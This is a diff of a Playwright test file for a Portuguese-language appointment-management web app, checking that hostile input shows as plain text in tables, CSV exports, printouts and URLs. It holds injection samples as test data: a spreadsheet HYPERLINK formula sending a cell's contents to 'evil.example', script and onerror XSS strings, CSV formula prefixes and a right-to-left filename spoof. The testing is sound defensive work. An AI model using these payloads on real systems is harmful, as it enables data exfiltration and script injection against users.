@@ -1,23 +1,13 @@
 import { demoLinks } from '@mocks/seed/accounts';
 import papaparse from 'papaparse';
 import type { Locator, Page } from '@playwright/test';
-import { addDays, formatDate, today } from '@/formats/dates';
-import { addAppointment, addCall } from './support/api';
+import { formatDate, today } from '@/formats/dates';
+import { addAppointment } from './support/api';
 import { resize } from './support/accessibility';
 import { onCall, type Call } from './support/faults';
-import { downloadText, expect, test } from './support/fixtures';
+import { download, downloadText, expect, openSheet, test } from './support/fixtures';
 import { modules, openFirst, openModule } from './support/modules';
-import {
-  choose,
-  desk,
-  fill,
-  filterBy,
-  noticedReference,
-  openAppointments,
-  openCalls,
-  panel,
-  phone,
-} from './support/steps';
+import { desk, filterBy, openAppointments, panel, phone } from './support/steps';
 
 /* What people type, or old records hold, is text everywhere: on the screen, on paper and in a spreadsheet. */
 
@@ -26,7 +16,7 @@ const formula = '=HYPERLINK("http://evil.example?"&A1;"clique")';
 /** Shown as written, the end would read backwards: "exe.gpj". */
 const override = 'nota\u202Egpj.exe';
 const emoji = '👩🏽‍⚖️🏳️‍🌈 Ñandú é ﷽';
-const endless = 'x'.repeat(10_000);
+const endless = `${markup} ${'x'.repeat(10_000)}`;
 
 test.beforeEach(({ page }) => {
   page.on('dialog', (dialog) => {
@@ -42,77 +32,39 @@ async function expectOnlyText(page: Page) {
   await expect(page.locator('[href^="javascript:" i]')).toHaveCount(0);
 }
 
-const overflow = (page: Page) =>
-  page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
-
-async function csvOf(page: Page): Promise<string[][]> {
-  const downloading = page.waitForEvent('download');
-  await page.getByRole('button', { name: 'Download Excel (.csv)' }).click();
-  const text = await downloadText(await downloading);
-  return papaparse.parse<string[]>(text.slice(1), { delimiter: ';', newline: '\r\n' }).data;
-}
-
-test('an appointment typed with hostile content in every field', async ({
-  page,
-  context,
-  signIn,
-}, testInfo) => {
+test('an appointment with hostile content in every field', async ({ page, signIn }, testInfo) => {
   await signIn(page);
-  const table = await openAppointments(page);
-  await page.getByRole('button', { name: 'Novo', exact: true }).click();
-  const form = panel(page, 'Novo compromisso');
+  const subject = '=1+1<b onclick=alert(1)>"\'; --';
   const description = `${formula}\n${markup}\n${override}\n${emoji}`.padEnd(800, 'ç');
-  const typed = {
-    Assunto: '=1+1<b onclick=alert(1)>"\'; --',
-    Local: markup,
-    'Nome do solicitante': '@SUM(A1:A9)',
-    Descrição: description,
-  };
-  await fill(form, typed);
-  await choose(form, 'Horário de início', '09:00');
-  await choose(form, 'Horário de término', '10:00');
-  await form.getByRole('button', { name: 'Salvar' }).click();
-  const reference = await noticedReference(page, /^O compromisso AG-\d+ foi criado!$/);
-
-  await filterBy(page, 'Filtrar compromissos', { Assunto: typed.Assunto, Referência: reference });
-  await expect(table.getByRole('cell', { name: typed.Assunto, exact: true })).toBeVisible();
-  await expect(page.getByRole('button', { name: `Remover filtro Assunto: ${typed.Assunto}` })).toBeVisible();
+  const fields = { subject, location: markup, requesterName: '@SUM(A1:A9)', description };
+  const reference = await addAppointment(page, { date: today(), ...fields });
+  const table = await openAppointments(page);
+  await filterBy(page, 'Filtrar compromissos', { Assunto: subject, Referência: reference });
+  await expect(table.getByRole('cell', { name: subject, exact: true })).toBeVisible();
+  await expect(page.getByRole('button', { name: `Remover filtro Assunto: ${subject}` })).toBeVisible();
   await expectOnlyText(page);
 
-  expect(await csvOf(page)).toEqual([
-    ['Ref.', 'Assunto', 'Data Início', 'Data Fim', 'Descrição', 'Local'],
-    [
-      reference,
-      `'${typed.Assunto}`,
-      `${formatDate(today())} 09:00`,
-      `${formatDate(today())} 10:00`,
-      `'${description}`,
-      markup,
-    ],
+  const csv = await download(page, page.getByRole('button', { name: 'Download Excel (.csv)' }));
+  const { data } = papaparse.parse((await downloadText(csv)).slice(1), { delimiter: ';', newline: '\r\n' });
+  const day = formatDate(today());
+  expect(data.slice(1)).toEqual([
+    [reference, `'${subject}`, `${day} 09:00`, `${day} 10:30`, `'${description}`, markup],
   ]);
-
-  const printing = page.waitForEvent('download');
-  await page.getByRole('button', { name: 'Imprimir resultados' }).click();
-  const path = testInfo.outputPath('compromissos.html');
-  await (await printing).saveAs(path);
-  const sheet = await context.newPage();
-  await sheet.goto(`file://${path}`);
-  await expect(sheet.getByRole('cell').last()).toHaveText(typed.Assunto);
+  const print = await download(page, page.getByRole('button', { name: 'Imprimir resultados' }));
+  const sheet = await openSheet(page, print, testInfo);
+  await expect(sheet.getByRole('cell').last()).toHaveText(subject);
   await expectOnlyText(sheet);
   await sheet.close();
 
   await table.getByRole('button', { name: reference, exact: true }).click();
   const details = panel(page, `Compromisso ${reference}`);
-  for (const text of Object.values(typed)) {
-    await expect(
-      details.getByRole('definition').filter({ hasText: text.split('\n')[0] ?? '' }),
-    ).not.toHaveCount(0);
+  for (const text of [markup, '@SUM(A1:A9)', description]) {
+    await expect(details.getByText(text, { exact: true })).toBeVisible();
   }
-  await expect(details.getByText(description)).toBeVisible();
   await expectOnlyText(page);
   const link = await details.getByRole('link', { name: /\/appointment\// }).getAttribute('href');
   await page.goto(link ?? '');
-  await expect(page.getByRole('heading', { level: 1 })).toHaveText(typed.Assunto);
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(subject);
   await expect(page).toHaveTitle(new RegExp('^=1\\+1<b onclick'));
   await expect(page.getByText(description)).toBeVisible();
   await expectOnlyText(page);
@@ -121,58 +73,38 @@ test('an appointment typed with hostile content in every field', async ({
   expect(map.searchParams.get('query')).toBe(markup);
 });
 
-test('a call typed with hostile content in every field', async ({ page, signIn }) => {
-  await signIn(page);
-  const name = `${formula} ${markup}`;
-  const subject = `-1+1|cmd\n${markup}\n${override} ${emoji}`.padEnd(2000, 'é');
-  const reference = await addCall(page, { date: today(), name, subject });
-  const table = await openCalls(page);
-  await filterBy(page, 'Filtrar ligações', { Referência: reference, Nome: markup });
-  await expect(table.getByText(name)).toBeVisible();
-  await expectOnlyText(page);
-  const [, line] = await csvOf(page);
-  expect(line?.slice(0, 2)).toEqual([reference, `'${subject.replaceAll('\n', ' ')}`]);
-  expect(line?.[4]).toBe(`'${name}`);
-  await table.getByRole('button', { name: reference, exact: true }).click();
-  await expect(panel(page, `Ligação ${reference}`).getByText(subject)).toBeVisible();
-  await expectOnlyText(page);
+test('an address with hostile content leads to what says that it is not there', async ({
+  page,
+  problems,
+}) => {
+  problems.expect(/status of 404/);
+  for (const [path, told] of [
+    ['/appointment/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Compromisso não encontrado'],
+    [`/appointment/${'a'.repeat(2000)}`, 'Compromisso não encontrado'],
+    ['/invoice/open/%3Cimg%20src=x%20onerror=alert(1)%3E', 'Fatura não encontrada'],
+    ['/auth/reset-password/%3Cscript%3E', 'Ops! Token expirou ou não existe'],
+  ] as const) {
+    await page.goto(path);
+    await expect(page.getByRole('alert')).toContainText(told);
+    await expectOnlyText(page);
+  }
 });
+
+const all = (fields: string) => Object.fromEntries(fields.split(' ').map((field) => [field, endless]));
+const digits = '9'.repeat(500);
 
 /** The texts of a module's answers, each longer than any form lets through. */
 const overlong: Record<string, object> = {
   '/appointments/list': {
-    subject: `${markup} ${endless}`,
-    location: endless,
-    description: `${override}\n${endless}`,
-    requester: { name: endless, telephone: '9'.repeat(500) },
+    ...all('subject location description'),
+    requester: { name: endless, telephone: digits },
   },
-  '/phonecalls/list': {
-    name: endless,
-    createdBy: endless,
-    subject: endless,
-    telephone: '9'.repeat(500),
-    statusName: endless,
-  },
-  '/services/list': {
-    description: `${markup} ${endless}`,
-    statusName: endless,
-    electorName: endless,
-    categoryName: endless,
-    originName: endless,
-    officeName: endless,
-  },
-  '/voters/list': {
-    name: `${markup} ${endless}`,
-    email: endless,
-    mail: endless,
-    formattedAddress: endless,
-    districtAndCity: endless,
-    professionName: endless,
-    note: `${override}\n${endless}`,
-  },
+  '/phonecalls/list': { ...all('name createdBy subject statusName'), telephone: digits },
+  '/services/list': all('description statusName electorName categoryName originName officeName'),
+  '/voters/list': all('name email mail formattedAddress districtAndCity professionName note'),
 };
 
-const longer = (page: Page, call: Call, fields: object) =>
+const longer = (page: Page, call: Call, fields: object = {}) =>
   onCall(page, call, async (route) => {
     const response = await route.fetch();
     const reply = (await response.json()) as { data?: object[] };
@@ -186,8 +118,9 @@ const longer = (page: Page, call: Call, fields: object) =>
 async function expectNoOverflow(page: Page, part: Locator) {
   for (const size of [desk, phone.viewport]) {
     await resize(page, size);
-    expect(await overflow(page)).toBe(0);
-    expect(await part.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0);
+    for (const box of [page.locator('html'), part]) {
+      expect(await box.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0);
+    }
   }
   await resize(page, desk);
   await expectOnlyText(page);
@@ -198,8 +131,8 @@ test('records longer than any form lets through break no screen', async ({ page,
   for (const module of modules) {
     const fields = overlong[module.path];
     expect(fields, `texts for ${module.path}`).toBeDefined();
-    await longer(page, module.search, fields ?? {});
-    await longer(page, module.read, fields ?? {});
+    await longer(page, module.search, fields);
+    await longer(page, module.read, fields);
     const table = await openModule(page, module);
     await expectNoOverflow(page, page.getByRole('main'));
     await openFirst(table);
@@ -208,28 +141,9 @@ test('records longer than any form lets through break no screen', async ({ page,
     await expectNoOverflow(page, details);
     await page.keyboard.press('Escape');
   }
-  await longer(
-    page,
-    { script: 'compromisso.public.php', action: 'getDetails' },
-    overlong['/appointments/list'] ?? {},
-  );
+  const invitation = { script: 'compromisso.public.php', action: 'getDetails' };
+  await longer(page, invitation, overlong['/appointments/list']);
   await page.goto(`/appointment/${demoLinks.activeAppointment}`);
   await expect(page.getByRole('heading', { level: 1 })).toContainText(markup);
   await expectNoOverflow(page, page.getByRole('main'));
-});
-
-test('a name in another direction moves nothing around it', async ({ page, context, signIn }, testInfo) => {
-  await signIn(page);
-  const subject = `Reunião \u2067${override}`.slice(0, 60);
-  const reference = await addAppointment(page, { date: addDays(today(), 1), subject });
-  await openAppointments(page);
-  await filterBy(page, 'Filtrar compromissos', { Referência: reference });
-  const printing = page.waitForEvent('download');
-  await page.getByRole('button', { name: 'Imprimir resultados' }).click();
-  const path = testInfo.outputPath('compromissos.html');
-  await (await printing).saveAs(path);
-  const sheet = await context.newPage();
-  await sheet.goto(`file://${path}`);
-  // On paper nobody can look at what a text is made of: marks that reverse it are left out.
-  await expect(sheet.getByRole('cell').last()).toHaveText('Reunião notagpj.exe');
 });
